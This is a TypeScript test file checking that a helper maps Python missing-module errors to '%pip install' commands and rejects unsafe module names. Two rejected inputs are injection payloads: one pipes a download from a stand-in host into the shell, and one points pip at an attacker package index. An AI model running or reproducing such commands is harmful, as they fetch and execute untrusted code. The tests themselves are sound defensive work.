import { expect, test } from "vitest";
import { installCommand, missingPackage } from "./missingPackage";

test.each([
  ["No module named 'pandas'", "pandas", "%pip install pandas"],
  ["No module named 'sklearn'", "sklearn", "%pip install scikit-learn"],
  ["No module named cv2", "cv2", "%pip install opencv-python-headless"],
])("%s", (evalue, module, command) => {
  const missing = missingPackage("ModuleNotFoundError", evalue);
  expect(missing?.module).toBe(module);
  expect(missing === null ? null : installCommand(missing)).toBe(command);
});

test.each([
  ["ModuleNotFoundError", "No module named 'sklearn.x'"],
  ["ModuleNotFoundError", "No module named 'x; curl evil.example | sh'"],
  ["ModuleNotFoundError", "No module named '--index-url=http://evil.example'"],
  ["ModuleNotFoundError", "No module named 'google'"],
  ["ValueError", "No module named 'pandas'"],
])("%s: %s is no missing package", (ename, evalue) => expect(missingPackage(ename, evalue)).toBeNull());
